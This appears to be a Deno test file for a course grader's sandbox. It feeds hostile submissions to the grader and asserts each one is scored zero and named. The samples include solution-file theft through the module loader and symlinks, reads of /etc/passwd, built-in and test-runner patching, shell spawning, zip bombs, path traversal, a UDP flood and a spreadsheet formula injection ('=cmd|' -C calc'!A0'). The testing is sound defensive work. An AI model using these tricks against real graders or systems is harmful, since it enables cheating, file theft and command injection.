/**
 * The grader's hostile corpus: submissions that try to get a score, a file,
 * the network, the machine or a classmate's marks by any means other than
 * passing tests, one class of escape at a time. Each row says the score it
 * must get and the one line its report must hold. Code submissions are
 * lesson 03's reference solution with a hostile snippet in front (or a
 * setup that changes the folder), so the tests would pass but for the
 * attempt; archives are built in memory.
 *
 * The OS sandbox is what contains most of them; the table also says what
 * the fallback (Deno permissions alone) is expected to hold.
 */

import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { findLesson, loadCatalog, ROOT } from "../catalog.ts";
import { UsageError } from "../usage_error.ts";
import { gradebookCsv, neutralised } from "./gradebook.ts";
import { DEFAULT_LIMITS, type GradedLesson, gradeSubmission, type Limits } from "./grading.ts";
import { detectSandbox } from "./sandbox.ts";
import { type FakeEntry, makeZip } from "./fake_zip.ts";

const catalog = await loadCatalog();
const lesson03 = findLesson(catalog, "3");
const solution03 = await Deno.readTextFile(`${ROOT}solutions/lesson-03/udp_local.ts`);
const sandbox = await detectSandbox();
const os = sandbox.kind === "bubblewrap";
/**
 * The default time limit (a busy machine must not turn a slow start into a
 * time-out), a tighter memory and output cap, so runaway code is stopped soon.
 */
const LIMITS: Limits = { ...DEFAULT_LIMITS, memoryMb: 200, outputBytes: 256 * 1024 };
const SOLUTION_URL = `file://${ROOT}solutions/lesson-03/udp_local.ts`;

/** The classes of escape (issue: "Grading that hostile code cannot game"). */
type Attack =
  | "module loader"
  | "remote code"
  | "environment"
  | "built-ins"
  | "test runner"
  | "files, processes, system"
  | "runaway"
  | "archive"
  | "batch interference"
  | "report";

/** One hostile submission and what grading it must produce. */
interface Hostile {
  attack: Attack;
  name: string;
  /** Code put in front of the solution (top level of lesson-03/udp_local.ts). */
  code?: string;
  /** Changes to the submission folder instead of (or besides) code. */
  setup?: (dir: string) => Promise<void>;
  /** The score: zero for the lesson, or full marks (the attempt cannot change it). */
  score: "zero" | "full";
  /** The one line the report must hold (a violation or the problem); none for full marks. */
  says?: RegExp;
  /** Only where the OS sandbox is available (it is what contains this one). */
  needsOs?: boolean;
}

const imports = (specifier: string, attributes = "") =>
  `export * from ${JSON.stringify(specifier)}${attributes};`;
const importsText = (specifier: string) =>
  `import text from ${JSON.stringify(specifier)} with { type: "text" };\nconsole.log(text);`;

const HOSTILE: Hostile[] = [
  // 1. Reaching files through the module loader.
  {
    attack: "module loader",
    name: "imports the reference solution by file URL",
    code: imports(SOLUTION_URL),
    score: "zero",
    says: /tried to import the reference solution: denied/,
  },
  {
    attack: "module loader",
    name: "imports the reference solution by absolute path",
    code: imports(`${ROOT}solutions/lesson-03/udp_local.ts`),
    score: "zero",
    says: /tried to import the reference solution: denied/,
  },
  {
    attack: "module loader",
    name: "imports the solution through /proc/self/cwd",
    code: imports("file:///proc/self/cwd/solutions/lesson-03/udp_local.ts"),
    score: "zero",
    says: /tried to load \/proc\/self\/cwd\/solutions\/lesson-03\/udp_local\.ts from outside/,
    needsOs: true,
  },
  {
    attack: "module loader",
    name: "imports the solution through a percent-encoded path",
    code: imports(SOLUTION_URL.replace("/solutions/", "/%73olutions/")),
    score: "zero",
    says: /tried to load \S*\/solutions\/lesson-03\/udp_local\.ts from outside its folder/,
    needsOs: true,
  },
  {
    attack: "module loader",
    name: "imports the solution through a path with dot segments",
    code: imports(`file://${ROOT}tests/../solutions/lesson-03/udp_local.ts`),
    score: "zero",
    says: /tried to import the reference solution: denied/,
  },
  {
    attack: "module loader",
    name: "imports the solution with a computed dynamic import",
    code: `const where = ["file://", ${
      JSON.stringify(ROOT)
    }, "sol", "utions/lesson-03/udp_local.ts"];
      const { replyFor: _r } = await import(where.join(""));`,
    score: "zero",
    says: /tried to import the reference solution: denied/,
  },
  {
    attack: "module loader",
    name: "submits its lesson folder as a symlink to the solutions",
    setup: async (dir) => {
      await Deno.remove(`${dir}/lesson-03`, { recursive: true });
      await Deno.symlink(`${ROOT}solutions/lesson-03`, `${dir}/lesson-03`);
    },
    score: "zero",
    says: /tried to read \S*solutions\/lesson-03 through a symlink: denied/,
  },
  {
    attack: "module loader",
    name: "links one file to the reference solution",
    setup: async (dir) => {
      await Deno.remove(`${dir}/lesson-03/udp_local.ts`);
      await Deno.symlink(
        `${ROOT}solutions/lesson-03/udp_local.ts`,
        `${dir}/lesson-03/udp_local.ts`,
      );
    },
    score: "zero",
    says: /tried to read \S*solutions\/lesson-03\/udp_local\.ts through a symlink: denied/,
  },
  {
    attack: "module loader",
    name: "reads /etc/passwd as text through an import attribute",
    code: importsText("file:///etc/passwd"),
    score: "zero",
    says: /tried to load \/etc\/passwd from outside its folder: denied/,
    needsOs: true,
  },
  {
    attack: "module loader",
    name: "reads the solution's source as text through an import attribute",
    code: importsText(SOLUTION_URL),
    score: "zero",
    says: /tried to import the reference solution: denied/,
  },
  {
    attack: "module loader",
    name: "imports the course tooling",
    code: imports(`file://${ROOT}tools/catalog.ts`),
    score: "zero",
    says: /tried to load \S*tools\/catalog\.ts from outside its folder: denied/,
    needsOs: true,
  },
  {
    attack: "module loader",
    name: "imports the grader's home folder",
    code: importsText("file:///root/.bashrc"),
    score: "zero",
    says: /tried to load \/root\/\.bashrc from outside its folder: denied/,
    needsOs: true,
  },
  // 2. Remote code at grade time, and the grader's environment.
  {
    attack: "remote code",
    name: "imports code over https",
    code: `await import("https://127.0.0.3/payload.ts");`,
    score: "zero",
    says: /tried to import https:\/\/127\.0\.0\.3\/payload\.ts: denied \(no remote code\)/,
  },
  {
    attack: "remote code",
    name: "imports a package from npm",
    code: `await import("npm:left-pad@1.3.0");`,
    score: "zero",
    says: /tried to import npm:left-pad: denied \(no remote code\)/,
  },
  {
    attack: "remote code",
    name: "imports a package from jsr",
    code: `await import("jsr:@std/fmt@1/colors");`,
    score: "zero",
    says: /tried to import jsr:@std\/fmt: denied \(no remote code\)/,
  },
  {
    attack: "remote code",
    name: "imports code statically over http",
    code: imports("http://127.0.0.3:9/payload.ts"),
    score: "zero",
    says: /tried to import http:\/\/127\.0\.0\.3:9\/payload\.ts: denied \(no remote code\)/,
  },
  {
    attack: "environment",
    name: "looks for the grader's environment (a canary it may read)",
    // The grader's own process holds LOCKDOWN_CANARY; the run may read LOCKDOWN_* but inherits nothing.
    code:
      `if (Deno.env.get("LOCKDOWN_CANARY")) throw new Error("inherited the grader's environment");`,
    score: "full",
  },
  {
    attack: "environment",
    name: "reads the environment",
    code: 'Deno.env.get("HOME");',
    score: "zero",
    says: /tried to read the environment variable HOME: denied/,
  },
  {
    attack: "environment",
    name: "dumps the whole environment",
    code: "console.log(Deno.env.toObject());",
    score: "zero",
    says: /tried to read the whole environment: denied/,
  },
  // 3. Tampering with built-ins the tests rely on.
  {
    attack: "built-ins",
    name: "empties the array iterator",
    code: "Array.prototype[Symbol.iterator] = function* () {};",
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "built-ins",
    name: "redefines Symbol.iterator",
    code: 'Object.defineProperty(Symbol, "iterator", { value: Symbol("fake") });',
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "built-ins",
    name: "makes every typed array's length 0",
    code: `Object.defineProperty(Object.getPrototypeOf(Uint8Array.prototype), "length", {
      get() { return 0; } });`,
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "built-ins",
    name: "patches a built-in the assertions use (Promise.race)",
    code: "(Promise as unknown as { race: unknown }).race = (ps: Promise<unknown>[]) => ps[0];",
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "built-ins",
    name: "replaces the global Promise",
    code: "(globalThis as { Promise: unknown }).Promise = class {};",
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "built-ins",
    name: "patches Promise.prototype.then",
    code: "Promise.prototype.then = function () { return this; } as never;",
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "built-ins",
    name: "patches TextDecoder.prototype.decode",
    code: 'TextDecoder.prototype.decode = () => "Your data was 16 bytes long";',
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "built-ins",
    name: "pollutes Object.prototype",
    code: "(Object.prototype as Record<string, unknown>).polluted = true;",
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "built-ins",
    name: "patches JSON.stringify",
    code: 'JSON.stringify = () => "{}";',
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  // The test runner itself.
  {
    attack: "test runner",
    name: "turns off Deno's op sanitizer",
    code: `const internal = (Deno as unknown as Record<symbol, Record<string, unknown>>)[
      (Deno as unknown as { internal: symbol }).internal];
      internal.testSanitizeOps = false;`,
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "test runner",
    name: "turns off Deno's resource sanitizer",
    code: `const internal = (Deno as unknown as Record<symbol, Record<string, unknown>>)[
      (Deno as unknown as { internal: symbol }).internal];
      internal.testSanitizeResources = false;`,
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "test runner",
    name: "replaces the test API",
    code: "(Deno as unknown as { test: unknown }).test = () => {};",
    score: "zero",
    says: /tried to patch the test runtime/,
  },
  {
    attack: "test runner",
    name: "registers a fake passing copy of a course test",
    code: 'Deno.test("server: counts bytes on the wire, not characters", () => {});',
    score: "zero",
    says: /registered a course test twice/,
  },
  {
    attack: "test runner",
    name: "prints fake results",
    code: `console.log("ok | 11 passed | 0 failed");
      Deno.stdout.writeSync(new TextEncoder().encode('<testcase name="x"></testcase>\\nok | 11 passed\\n'));`,
    score: "full",
  },
  {
    attack: "test runner",
    name: "exits early",
    code: "Deno.exit(0);",
    score: "zero",
    says: /never ran|ran no test|exited/,
  },
  // Files, processes and the system (Deno's permissions).
  {
    attack: "files, processes, system",
    name: "spawns a process",
    code: 'new Deno.Command("sh", { args: ["-c", "echo pwned"] }).outputSync();',
    score: "zero",
    says: /tried to run sh: denied/,
  },
  {
    attack: "files, processes, system",
    name: "reads a file outside its folder",
    code: 'Deno.readTextFileSync("/etc/passwd");',
    score: "zero",
    says: /tried to read \/etc\/passwd: denied/,
  },
  {
    attack: "files, processes, system",
    name: "overwrites the course's tests",
    code: `Deno.writeTextFileSync(${
      JSON.stringify(`${ROOT}tests/lesson-03/udp_local_test.ts`)
    }, "");`,
    score: "zero",
    says: /tried to write \S*udp_local_test\.ts: denied/,
  },
  {
    attack: "files, processes, system",
    name: "queries the system",
    code: "Deno.hostname();",
    score: "zero",
    says: /tried to query the system for hostname: denied/,
  },
  {
    attack: "files, processes, system",
    name: "talks to a non-allowed address",
    code: 'await Deno.connect({ hostname: "127.0.0.3", port: 9 });',
    score: "zero",
    says: /tried to reach 127\.0\.0\.3:9: denied/,
  },
  {
    attack: "files, processes, system",
    name: "reads through a symlink",
    setup: (dir) => Deno.symlink("/etc/passwd", `${dir}/lesson-03/notes.txt`),
    score: "zero",
    says: /tried to read \/etc\/passwd through a symlink: denied/,
  },
  // Taking the machine.
  {
    attack: "runaway",
    name: "loops forever",
    code: "export function _spin() {} while (Date.now() > 0) { /* forever */ }",
    score: "zero",
    says: /timed out after 10 s/,
  },
  {
    attack: "runaway",
    name: "exhausts memory",
    code: "const hog: number[][] = []; while (true) hog.push(new Array(1_000_000).fill(7));",
    score: "zero",
    says: /memory/,
  },
  {
    attack: "runaway",
    name: "floods the output",
    code: "const junk = new Uint8Array(65536).fill(120); " +
      "for (let i = 0; i < 300; i++) { Deno.stderr.writeSync(junk); console.log(junk); }",
    score: "full",
  },
];

/** Makes a submission folder with lesson-03/udp_local.ts = `source`. */
async function submission(source: string, setup?: (dir: string) => Promise<void>) {
  const dir = await Deno.makeTempDir({ prefix: "corpus-" });
  await Deno.mkdir(`${dir}/lesson-03`);
  await Deno.writeTextFile(`${dir}/lesson-03/udp_local.ts`, source);
  await setup?.(dir);
  return dir;
}

async function grade03(dir: string): Promise<GradedLesson> {
  try {
    return (await gradeSubmission(catalog, dir, [lesson03], LIMITS, 1, sandbox)).lessons[0];
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

for (const hostile of HOSTILE) {
  Deno.test({
    name: `corpus (${hostile.attack}): a submission that ${hostile.name} ${
      hostile.score === "zero" ? "earns nothing and is named" : "gains nothing by it"
    }`,
    ignore: hostile.needsOs && !os,
    async fn() {
      const source = hostile.code === undefined ? solution03 : `${hostile.code}\n${solution03}`;
      Deno.env.set("LOCKDOWN_CANARY", "the grader's secret");
      let graded: GradedLesson;
      try {
        graded = await grade03(await submission(source, hostile.setup));
      } finally {
        Deno.env.delete("LOCKDOWN_CANARY");
      }
      const said = [...graded.violations, graded.problem ?? ""].join("\n");
      if (hostile.score === "full") {
        assertEquals(graded.violations, [], said);
        assertEquals(graded.points, graded.maxPoints, said);
        return;
      }
      assertEquals(graded.points, 0, said);
      assertMatch(said, hostile.says!);
      assert(!said.includes("root:x:0:0"), "the report shows a file's contents");
    },
  });
}

Deno.test("corpus (built-ins): honest code using web APIs Deno sets up on first use (queueMicrotask, MessageChannel) gets full marks", async () => {
  // Each writes to Deno's own objects on its first call: after lockdown froze them, that first
  // call threw, and an honest submission was reported as patching the test runtime.
  const code = "queueMicrotask(() => {});\n" +
    "{ const { port1, port2 } = new MessageChannel(); port1.postMessage(1); port1.close(); " +
    "port2.close(); }";
  const graded = await grade03(await submission(`${code}\n${solution03}`));
  const said = [...graded.violations, graded.problem ?? ""].join("\n");
  assertEquals(graded.violations, [], said);
  assertEquals(graded.points, graded.maxPoints, said);
});

Deno.test("corpus (module loader): a file loaded as code from outside earns nothing, and its text stays out of the report", async () => {
  const secret = await Deno.makeTempFile({ suffix: ".txt" });
  await Deno.writeTextFile(secret, "TOP SECRET launch codes\n");
  try {
    const graded = await grade03(
      await submission(`import ${JSON.stringify(`file://${secret}`)};\n${solution03}`),
    );
    assertEquals(graded.points, 0);
    assertStringIncludes(
      graded.violations.join("\n"),
      `tried to load ${secret} from outside its folder: denied`,
    );
    const report = JSON.stringify(graded);
    assert(!report.includes("SECRET"), report);
  } finally {
    await Deno.remove(secret);
  }
});

// 4. Archives: each is refused before anything runs, with one line (exit 2 from the command).
const MIB = 1024 * 1024;
const ARCHIVES: { name: string; entries: () => FakeEntry[]; says: string }[] = [
  {
    name: "a zip bomb that claims a small size",
    // 1 MiB of zeros deflate to 1 KiB; the reader stops inflating at the 1000 bytes claimed.
    entries: () => [
      {
        name: "lesson-03/udp_local.ts",
        data: new Uint8Array(MIB),
        deflated: true,
        claimedSize: 1000,
      },
    ],
    says: "the archive unpacks to more than it says (lesson-03/udp_local.ts passes 1000 bytes): " +
      "a zip bomb?",
  },
  {
    name: "a zip bomb that admits its size",
    // What it claims is over the limit: refused before inflating anything.
    entries: () => [
      { name: "lesson-03/udp_local.ts", data: "x", deflated: true, claimedSize: 70 * MIB },
    ],
    says: "the archive unpacks to more than 67108864 bytes",
  },
  {
    name: "a path that climbs out",
    entries: () => [{ name: "lesson-03/../../escape.ts", data: "x" }],
    says: "the archive holds a path that escapes its folder: lesson-03/../../escape.ts",
  },
  {
    name: "an absolute path",
    entries: () => [{ name: "/etc/cron.d/evil", data: "x" }],
    says: "the archive holds an absolute path: /etc/cron.d/evil",
  },
  {
    name: "a symlink",
    entries: () => [{ name: "lesson-03/udp_local.ts", data: "/etc/passwd", mode: 0o120777 }],
    says: "the archive holds a symlink, which is not allowed: lesson-03/udp_local.ts",
  },
  {
    name: "the same file twice",
    entries: () => [
      { name: "lesson-03/udp_local.ts", data: solution03 },
      { name: "lesson-03/./udp_local.ts", data: "export const cheat = 1;" },
    ],
    says: "the archive holds lesson-03/udp_local.ts twice",
  },
  {
    name: "a name that is both a file and a folder",
    entries: () => [
      { name: "lesson-03", data: "x" },
      { name: "lesson-03/udp_local.ts", data: solution03 },
    ],
    says: "the archive holds lesson-03 both as a file and as a folder",
  },
  {
    name: "folders nested 40 deep",
    entries: () => [{ name: `${"d/".repeat(40)}x.ts`, data: "x" }],
    says: "the archive nests folders 41 deep; the limit is 12",
  },
  {
    name: "a thousand folders",
    entries: () => Array.from({ length: 1000 }, (_, i) => ({ name: `f${i}/g/`, data: "" })),
    says: "the archive makes more than 500 folders",
  },
  {
    name: "too many entries",
    entries: () =>
      Array.from({ length: 2001 }, (_, i) => ({ name: `lesson-03/f${i}.ts`, data: "" })),
    says: "the archive has 2001 entries; the limit is 2000",
  },
];

for (const archive of ARCHIVES) {
  Deno.test(`corpus (archive): ${archive.name} is refused with one line`, async () => {
    const dir = await Deno.makeTempDir({ prefix: "corpus-zip-" });
    try {
      const path = `${dir}/eve.zip`;
      await Deno.writeFile(path, await makeZip(archive.entries()));
      const error = await gradeSubmission(catalog, path, [lesson03], LIMITS, 1, sandbox).then(
        () => undefined,
        (e) => e,
      );
      assert(error instanceof UsageError, String(error));
      assertEquals(error.message, `${path}: ${archive.says}`);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  });
}

// 5. Batch interference: a flood of UDP datagrams at every loopback port while a classmate is graded.
Deno.test({
  name:
    "corpus (batch interference): a submission flooding every UDP port cannot lower a classmate's score",
  ignore: !os,
  async fn() {
    const flood = `const junk = new TextEncoder().encode("Your data was 99 bytes long");
      const s = Deno.listenDatagram({ hostname: "127.0.0.1", port: 0, transport: "udp" });
      (async () => { for (let round = 0; round < 50; round++) {
        for (let port = 1024; port < 65536; port++) {
          await s.send(junk, { transport: "udp", hostname: "127.0.0.1", port }).catch(() => {});
        }
      } })();`;
    const [, honest] = await Promise.all([
      grade03(await submission(`${flood}\n${solution03}`)),
      grade03(await submission(solution03)),
    ]);
    assertEquals(honest.violations, []);
    assertEquals(honest.points, honest.maxPoints);
  },
});

// 6. Reports: a name that a spreadsheet would run as a formula.
Deno.test("corpus (report): a submission named like a formula lands in the gradebook as text", async () => {
  const parent = await Deno.makeTempDir({ prefix: "corpus-csv-" });
  try {
    const name = "=cmd|' -C calc'!A0";
    await Deno.mkdir(`${parent}/${name}/lesson-03`, { recursive: true });
    await Deno.writeTextFile(`${parent}/${name}/lesson-03/udp_local.ts`, solution03);
    const grade = await gradeSubmission(
      catalog,
      `${parent}/${name}`,
      [lesson03],
      LIMITS,
      1,
      sandbox,
    );
    const row = gradebookCsv([{ name: grade.submission, grade }], [lesson03]).split("\n")[1];
    assert(row.startsWith(`'=cmd|' -C calc'!A0,`), row);
    for (const lead of ["=", "+", "-", "@", "\t", "\r"]) {
      assertEquals(neutralised(`${lead}1+1`), `'${lead}1+1`);
    }
    assertEquals(neutralised("ann"), "ann");
  } finally {
    await Deno.remove(parent, { recursive: true });
  }
});

Deno.test("corpus: every report names the sandbox it was graded in", async () => {
  const grade = await gradeSubmission(catalog, `${ROOT}solutions`, [lesson03], LIMITS, 1, sandbox);
  assertEquals(grade.sandbox, sandbox.description);
  assertEquals(grade.lessons[0].sandbox, sandbox.kind);
  const fallback = await detectSandbox("deno-permissions");
  const weaker = await gradeSubmission(
    catalog,
    `${ROOT}solutions`,
    [lesson03],
    LIMITS,
    1,
    fallback,
  );
  assertMatch(weaker.sandbox, /^Deno permissions only \(/);
  assertEquals(weaker.points, weaker.maxPoints);
});
